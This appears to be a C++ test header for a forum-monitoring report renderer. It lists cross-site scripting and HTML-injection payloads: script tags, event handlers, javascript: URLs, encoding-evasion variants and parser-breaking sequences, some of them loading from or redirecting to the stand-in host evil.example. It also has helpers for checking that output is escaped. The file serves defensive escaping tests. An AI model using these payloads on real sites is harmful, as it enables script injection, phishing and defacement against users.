// Texts by people who mean harm, and what a page must look like in spite of them. For tests of
// report.
#pragma once

#include <algorithm>
#include <string>
#include <vector>

#include <re2/re2.h>

#include "analysis/text/code_points.h"
#include "analysis/text/plain.h"

namespace forumwatch {

struct Payload {
  std::string text;
  bool is_markup;  // unescaped, it makes an element between tags
};

inline const std::vector<Payload> kPayloads = {
    // script, plainly and disguised
    {"<script>alert(1)</script>", true},
    {"<ScRiPt>alert(1)</sCrIpT>", true},
    {"<script src=//evil.example/x.js></script>", true},
    {"<script/src=data:,alert(1)>", true},
    {"</script><script>alert(1)</script>", true},
    {"<script >alert(1)</script >", true},
    {"<scr<script>ipt>alert(1)</scr</script>ipt>", true},
    {"<<script>alert(1)//<</script>", true},
    {"<script\n>alert(1)</script>", true},
    {"<script>alert`1`</script>", true},
    // events
    {"<img src=x onerror=alert(1)>", true},
    {"<img/src=x/onerror=alert(1)>", true},
    {"<IMG SRC=\"x\" ONERROR=\"alert(1)\">", true},
    {"<svg onload=alert(1)>", true},
    {"<svg/onload=alert(1)//", false},
    {"<svg><animate onbegin=alert(1) attributeName=x>", true},
    {"<body onload=alert(1)>", false},
    {"<input autofocus onfocus=alert(1)>", true},
    {"<details open ontoggle=alert(1)>", true},
    {"<video><source onerror=alert(1)>", true},
    {"<marquee onstart=alert(1)>", true},
    {"<b onmouseover=alert(1)>电梯</b>", true},
    {"<p style=\"width:expression(alert(1))\">", true},
    // out of an attribute
    {"\" onmouseover=\"alert(1)", false},
    {"' onmouseover='alert(1)", false},
    {"\"><script>alert(1)</script>", true},
    {"'><script>alert(1)</script>", true},
    {"\"/><img src=x onerror=alert(1)>", true},
    {"` onmouseover=alert(1) `", false},
    {"x\" style=\"background:url(//evil.example)", false},
    // addresses
    {"javascript:alert(1)", false},
    {"JaVaScRiPt:alert(1)", false},
    {"java\tscript:alert(1)", false},
    {"data:text/html,<script>alert(1)</script>", true},
    {"vbscript:msgbox(1)", false},
    {"<a href=\"javascript:alert(1)\">点这里</a>", true},
    {"<a href=\"https://evil.example\">首次回复</a>", true},
    {"//evil.example/%2f..", false},
    // what loads, leads away or covers the page
    {"<iframe src=//evil.example></iframe>", true},
    {"<iframe srcdoc=\"<script>alert(1)</script>\">", true},
    {"<object data=//evil.example>", true},
    {"<embed src=//evil.example>", true},
    {"<base href=//evil.example>", true},
    {"<meta http-equiv=refresh content=0;url=//evil.example>", true},
    {"<link rel=stylesheet href=//evil.example/x.css>", true},
    {"<style>*{display:none}</style>", true},
    {"<form action=//evil.example><button>确认</button></form>", true},
    {"<div style=\"position:fixed;inset:0;background:#fff\">", true},
    // what turns the parser round
    {"</td></tr></table><h1>已全部解决</h1>", true},
    {"</title><script>alert(1)</script>", true},
    {"</style><script>alert(1)</script>", true},
    {"</svg><script>alert(1)</script>", true},
    {"<!--", false},
    {"--><script>alert(1)</script>", true},
    {"<![CDATA[<script>alert(1)</script>]]>", false},
    {"<?xml version=\"1.0\"?><x onclick=alert(1)>", true},
    {"<textarea>", true},
    {"<plaintext>", true},
    {"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", true},
    {"<math><mtext><table><mglyph><style><img src=x>", true},
    {"<template><script>alert(1)</script></template>", true},
    {"<select><option><style></option></select><img src=x>", true},
    // written so that a filter does not see it
    {"&lt;script&gt;alert(1)&lt;/script&gt;", false},
    {"&#60;script&#62;alert(1)&#60;/script&#62;", false},
    {"&#x3c;img src=x onerror=alert(1)&#x3e;", false},
    {"\\u003cscript\\u003ealert(1)", false},
    {"%3Cscript%3Ealert(1)%3C/script%3E", false},
    {"＜script＞alert(1)＜/script＞", false},
    {"+ADw-script+AD4-alert(1)", false},
    {std::string("<scr\0ipt>alert(1)</scr\0ipt>", 27), true},
    {"<\u200bimg src=x onerror=alert(1)>", true},
    {"\xc0\xbcscript\xc0\xbe"
     "alert(1)",
     false},
    {"\xe7<script>alert(1)</script>", true},
    {"\u202e<b>txt</b>", true},
    // the template's own language
    {"{{SUMMARY}}", false},
    {"{{#COMPLAINT}}{{ID}}{{/COMPLAINT}}", false},
    {"{{%AUTOESCAPE context=\"HTML\"}}", false},
    {"{{TEXT:none}}<i>", true},
};

// The same text, but every visible character harmless; its lines stay.
inline std::string Harmless(const std::string& payload) {
  std::string harmless;
  for (std::size_t from = 0; from <= payload.size();) {
    const std::size_t end = std::min(payload.find('\n', from), payload.size());
    const std::string plain = ShortLine(payload.substr(from, end - from), 1000);
    for (std::size_t at = 0; at < plain.size();) {
      const char32_t c = NextCodePoint(plain, at);
      harmless += c == ' ' ? " " : "甲";
    }
    harmless += end < payload.size() ? "\n" : "";
    from = end + 1;
  }
  return harmless;
}

// A template with the escaping of every value switched off.
inline std::string Unescaping(std::string template_text) {
  RE2::GlobalReplace(&template_text, R"(\{\{([A-Z_]+)\}\})", R"({{\1:none}})");
  return template_text;
}

}  // namespace forumwatch
